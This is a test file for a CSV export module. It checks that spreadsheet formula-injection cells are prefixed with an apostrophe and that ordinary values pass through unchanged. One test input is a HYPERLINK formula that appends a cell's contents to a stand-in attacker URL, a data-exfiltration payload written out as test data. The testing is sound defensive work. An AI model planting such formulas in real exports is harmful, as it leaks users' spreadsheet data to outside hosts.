import { neutraliseCell, restoreCell, toCsv } from '@mpp/api/csv'
import { describe, expect, it } from 'vitest'

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/x?d="&A1)', `'=HYPERLINK("https://evil.example/x?d="&A1)`],
    ['+628123', `'+628123`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('neutralise a cell starting %j', (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe)
    expect(restoreCell(safe)).toBe(cell)
  })

  it('leave numbers, names and apostrophes alone', () => {
    for (const cell of ['-3', '4,5', '-0.25', '100.00', 'Kota Lubuklinggau', "Jum'at", "'quoted'", ''])
      expect(neutraliseCell(cell)).toBe(cell)
    expect(restoreCell("'quoted'")).toBe("'quoted'")
  })

  it('are neutralised and quoted in the file', () => {
    expect(
      toCsv([
        ['name', 'n'],
        ['=1+2,"x"', '-4'],
      ]),
    ).toBe('\uFEFFname,n\r\n"\'=1+2,""x""",-4\r\n')
  })
})
